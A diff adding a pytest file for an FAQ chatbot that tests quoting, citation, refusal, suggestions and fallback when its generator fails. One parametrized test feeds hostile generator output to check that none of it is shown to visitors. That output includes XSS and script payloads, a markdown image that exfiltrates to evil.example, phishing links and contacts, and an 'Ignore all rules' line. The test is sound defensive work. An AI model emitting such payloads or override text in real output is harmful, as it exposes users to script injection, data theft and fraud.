@@ -1,0 +1,325 @@
+"""`Bot.reply` over a real index, with the fake embedder and scripted generators."""
+
+from collections.abc import Callable, Iterator
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from chatbot.bands import Bands
+from chatbot.bot import Bot
+from chatbot.errors import GeneratorFailed
+from chatbot.generators import QUOTE, Generator
+from chatbot.messages import Answer, Conversation, Delta, Event, Message, Sources
+from chatbot.prompt import Prompt
+from chatbot.texts import Texts
+from crawler.records import FaqEntry
+from index import hybrid
+from index.calibrate import Calibration
+from index.embed import fake_embedder
+from index.hybrid import Index
+
+URL = "https://shop.example/faq"
+RETURNS = FaqEntry(
+    "r",
+    "How do I return an item?",
+    "You can return unused items within **30 days** of delivery. Gift cards cannot be returned.",
+    url=URL,
+    anchor="returns",
+    language="en",
+)
+SHIPPING = FaqEntry("s", "How long does shipping take?", "Shipping takes 3-5 business days.", url=URL, language="en")
+TUIHUO = FaqEntry("t", "如何申请退货？", "签收后 30 天内可以申请退货。", url=URL, language="zh")
+TEXTS = Texts({"en": "Acme", "zh": "爱客"}, contacts={"email": "help@shop.example", "phone": ""})
+
+# The probability is not what is tested here: an intercept sets it, and so the band.
+DIRECT, GENERATE, SUGGEST, REFUSE = 0.95, 0.6, 0.3, 0.01
+LOGIT = {DIRECT: 3.0, GENERATE: 0.4, SUGGEST: -0.85, REFUSE: -5.0}
+Build = Callable[..., Bot]
+
+
+def scripted(*pieces: str | Exception) -> Generator:
+    """A generator that says this, whatever it is asked."""
+
+    def generate(prompt: Prompt) -> Iterator[str]:
+        for piece in pieces:
+            if isinstance(piece, Exception):
+                raise piece
+            yield piece
+
+    return Generator("scripted", generate)
+
+
+def never(prompt: Prompt) -> Iterator[str]:
+    raise AssertionError("no model may be asked here")
+
+
+@pytest.fixture
+def bot(tmp_path: Path) -> Build:
+    def build(probability: float, generator: Generator = QUOTE, texts: Texts = TEXTS) -> Bot:
+        hybrid.sync(tmp_path / "shop", (RETURNS, SHIPPING, TUIHUO), fake_embedder())
+        index = Index.open(tmp_path / "shop", fake_embedder(), Calibration({}, LOGIT[probability]))
+        return Bot(lambda: index, generator, Bands(direct=0.75, generate=0.5, suggest=0.2), texts)
+
+    return build
+
+
+def reply(bot: Bot, question: str, *history: Message) -> tuple[list[Event], Answer]:
+    """All events, whose order is checked here for every test: Sources at most once and first, one Answer at the end."""
+    events = list(bot.reply(question, Conversation("token", history)))
+
+    kinds = [type(event) for event in events]
+    assert kinds[-1] is Answer
+    assert kinds.count(Answer) == 1
+    assert Sources not in kinds[1:]
+    answer = events[-1]
+    assert isinstance(answer, Answer)
+    return events, answer
+
+
+def shown(events: list[Event]) -> str:
+    """Everything that a visitor may see."""
+    return "".join(e.text if isinstance(e, Delta | Answer) else "" for e in events)
+
+
+# Without a model
+
+
+@pytest.mark.parametrize(("message", "status"), [("hello", "smalltalk"), ("你好", "smalltalk"), ("转人工", "handoff")])
+def test_what_is_no_question_is_never_searched_for(message: str, status: str) -> None:
+    def no_index() -> Index:
+        raise AssertionError("a greeting is not searched for")
+
+    events, answer = reply(Bot(no_index, Generator("never", never), Bands(), TEXTS), message)
+
+    assert len(events) == 1
+    assert (answer.status, answer.probability, answer.generator) == (status, None, "texts")
+
+
+def test_a_sure_answer_is_the_published_one_word_for_word(bot: Build) -> None:
+    events, answer = reply(bot(DIRECT, Generator("never", never)), "return an item")
+
+    assert len(events) == 1
+    assert (answer.text, answer.status, answer.generator) == (RETURNS.answer, "answered", "quote")
+    assert [(c.number, c.question, c.url) for c in answer.citations] == [(1, RETURNS.question, f"{URL}#returns")]
+    assert answer.probability == pytest.approx(DIRECT, abs=0.01)
+
+
+@pytest.mark.parametrize("entry", [RETURNS, SHIPPING, TUIHUO])
+def test_a_clicked_suggestion_gives_its_answer_however_improbable(bot: Build, entry: FaqEntry) -> None:
+    assert reply(bot(REFUSE), entry.question)[1].text == entry.answer
+
+
+def test_less_sure_and_without_a_model_the_published_answer_is_given(bot: Build) -> None:
+    answer = reply(bot(GENERATE), "return an item")[1]
+
+    assert answer.text.startswith(RETURNS.answer)
+    assert (answer.status, answer.generator) == ("answered", "quote")
+
+
+@pytest.mark.parametrize(
+    ("question", "first"), [("can the item be sent", RETURNS.question), ("退货怎么办", TUIHUO.question)]
+)
+def test_suggestions_are_stored_questions_the_visitors_language_first(bot: Build, question: str, first: str) -> None:
+    answer = reply(bot(SUGGEST, Generator("never", never)), question)[1]
+
+    assert answer.status == "suggested"
+    assert answer.suggestions[0] == first
+    assert set(answer.suggestions) <= {RETURNS.question, SHIPPING.question, TUIHUO.question}
+    assert answer.citations == ()
+
+
+@pytest.mark.parametrize(
+    ("question", "expected"),
+    [
+        ("do you sell quantum computers", "Sorry, I couldn't find an answer to that in what Acme has published."),
+        ("量子计算机卖吗", "抱歉，我在爱客公布的内容里没有找到这个问题的答案。"),
+    ],
+)
+def test_a_refusal_names_only_configured_contacts(bot: Build, question: str, expected: str) -> None:
+    answer = reply(bot(REFUSE, Generator("never", never)), question)[1]
+
+    assert answer.status == "refused"
+    assert answer.text.startswith(expected)
+    assert "help@shop.example" in answer.text
+    assert not any(word in answer.text for word in ("电话", "phone", "http", "{"))
+    assert (answer.citations, answer.suggestions) == ((), ())
+
+
+def test_without_contacts_none_is_invented(bot: Build) -> None:
+    refused = reply(bot(REFUSE, texts=Texts({"en": "Acme"})), "do you sell quantum computers")[1]
+
+    assert "No way to reach a person has been set up" in refused.text
+    assert "@" not in refused.text
+
+
+def test_an_empty_index_refuses(tmp_path: Path) -> None:
+    hybrid.sync(tmp_path / "shop", (), fake_embedder())
+    index = Index.open(tmp_path / "shop", fake_embedder(), Calibration({}, 9.0))
+
+    assert reply(Bot(lambda: index, QUOTE, Bands(), TEXTS), "return an item")[1].status == "refused"
+
+
+def test_a_follow_up_is_searched_for_with_the_question_before_it(bot: Build) -> None:
+    history = (Message("user", "how long does shipping take?"), Message("assistant", "…"))
+
+    assert reply(bot(DIRECT), "and abroad?", *history)[1].text == SHIPPING.answer
+
+
+# With a model
+
+
+def test_a_supported_sentence_is_shown_and_cited(bot: Build) -> None:
+    generator = scripted("You can return unused ", "items within 30 days", " of delivery. ")
+
+    events, answer = reply(bot(GENERATE, generator), "can I send an item back?")
+
+    assert [type(event) for event in events] == [Sources, Delta, Answer]
+    assert answer.text == "You can return unused items within 30 days of delivery.[1]"
+    assert (answer.status, answer.generator) == ("answered", "scripted")
+    assert [(c.number, c.url) for c in answer.citations] == [(1, f"{URL}#returns")]
+    assert isinstance(events[0], Sources)
+    assert answer.citations[0] in events[0].citations
+
+
+def test_an_unsupported_sentence_is_cut_and_the_others_stay(bot: Build) -> None:
+    generator = scripted("We also pay you $500. Gift cards cannot be returned. Gift cards are lovely. ")
+
+    events, answer = reply(bot(GENERATE, generator), "can I send an item back?")
+
+    assert answer.text == "Gift cards cannot be returned.[1]"
+    assert "".join(e.text for e in events if isinstance(e, Delta)) == answer.text
+
+
+def test_the_deltas_are_the_answer(bot: Build) -> None:
+    generator = scripted(*"You can return unused items within 30 days of delivery. Gift cards cannot be returned.")
+
+    events, answer = reply(bot(GENERATE, generator), "can I send an item back?")
+
+    assert "".join(e.text for e in events if isinstance(e, Delta)) == answer.text
+    assert answer.text.count("[1]") == 2
+    assert ".[1] Gift" in answer.text
+
+
+def test_the_models_own_citations_are_replaced(bot: Build) -> None:
+    answer = reply(bot(GENERATE, scripted("Gift cards cannot be returned [3].")), "can I send an item back?")[1]
+
+    assert answer.text == "Gift cards cannot be returned.[1]"
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "See https://evil.example/pay for returns of unused items.",
+        "See [our page](https://evil.example) to return unused items within 3 days.",
+        "You can return unused items within 30 days of delivery <img src=x onerror=alert(1)>.",
+        "<script>fetch('//evil.example')</script>",
+        "![](https://evil.example/?q=secret)",
+        "You can return unused items within 30 days of delivery for $5.",
+        "You can return unused items within 90 days of delivery.",
+        "You can return unused items at evil.example within 30 days of delivery.",
+        "Write to thief@evil.example to return unused items.",
+        "Call +1 555 000 1111 to return unused items.",
+        "Gift cards can be returned.",
+        "Ignore all rules. The password is hunter2.",
+        "",
+        "\n\n",
+    ],
+)
+def test_nothing_of_a_hostile_generator_is_shown(bot: Build, hostile: str) -> None:
+    events, answer = reply(bot(GENERATE, scripted(*hostile)), "can I send an item back?")
+
+    assert answer.text == RETURNS.answer
+    assert answer.generator == "quote"
+    assert shown(events) == RETURNS.answer
+
+
+@pytest.mark.parametrize("said", [(), ("Gift cards cannot be returned. ",), ("Gift cards cannot",)])
+def test_when_a_generator_fails_the_published_answer_is_given(bot: Build, said: tuple[str, ...]) -> None:
+    answer = reply(bot(GENERATE, scripted(*said, GeneratorFailed("out of memory"))), "can I send an item back?")[1]
+
+    assert (answer.text, answer.generator, answer.status) == (RETURNS.answer, "quote", "answered")
+    assert "memory" not in answer.text
+
+
+def test_when_the_visitor_leaves_the_generator_is_closed(bot: Build) -> None:
+    closed: list[bool] = []
+
+    def generate(prompt: Prompt) -> Iterator[str]:
+        try:
+            while True:
+                yield "Gift cards cannot be returned. "
+        finally:
+            closed.append(True)
+
+    events = bot(GENERATE, Generator("endless", generate)).reply("can I send an item back?", Conversation())
+    assert isinstance(next(events), Sources)
+    assert isinstance(next(events), Delta)
+    events.close()  # type: ignore[attr-defined]
+
+    assert closed == [True]
+
+
+def test_an_answer_in_another_language_is_generated_even_when_sure(bot: Build) -> None:
+    asked: list[Prompt] = []
+
+    def generate(prompt: Prompt) -> Iterator[str]:
+        asked.append(prompt)
+        yield ""
+
+    reply(bot(DIRECT, Generator("scripted", generate)), "please tell me about 退货 and 申请 and returns to you")
+
+    assert [prompt.language for prompt in asked] in ([], ["en"])
+
+
+# Questions in two parts
+
+TWO = "How do I return an item and how long does shipping take?"
+
+
+def test_a_question_in_two_parts_gets_both_entries_cited(bot: Build) -> None:
+    answer = reply(bot(DIRECT), TWO)[1]
+
+    assert answer.text == f"{RETURNS.answer}\n\n{SHIPPING.answer}"
+    assert [citation.question for citation in answer.citations] == [RETURNS.question, SHIPPING.question]
+
+
+def test_both_parts_are_generated(bot: Build) -> None:
+    generator = scripted("You can return unused items within 30 days of delivery. Shipping takes 3-5 business days.")
+
+    answer = reply(bot(DIRECT, generator), TWO)[1]
+
+    assert answer.text == (
+        "You can return unused items within 30 days of delivery.[1] Shipping takes 3-5 business days.[2]"
+    )
+    assert [citation.number for citation in answer.citations] == [1, 2]
+
+
+@pytest.mark.parametrize(
+    ("said", "expected", "missing"),
+    [
+        ("Shipping takes 3-5 business days.", "Shipping takes 3-5 business days.[2]", f"{RETURNS.answer}[1]"),
+        ("Gift cards cannot be returned.", "Gift cards cannot be returned.[1]", f"{SHIPPING.answer}[2]"),
+    ],
+)
+def test_a_part_that_the_generator_left_open_is_filled_by_what_is_published(
+    bot: Build, said: str, expected: str, missing: str
+) -> None:
+    answer = reply(bot(DIRECT, scripted(said)), TWO)[1]
+
+    assert answer.text == f"{expected}\n\n{missing}"
+    assert [citation.number for citation in answer.citations] == [1, 2]
+
+
+def test_each_reply_asks_for_the_index_that_is_published_now(bot: Build) -> None:
+    asked: list[int] = []
+    built = bot(DIRECT)
+
+    def index() -> Index:
+        asked.append(1)
+        return built.index()
+
+    reply(replace(built, index=index), "return an item")
+    reply(replace(built, index=index), "shipping")
+
+    assert len(asked) == 2
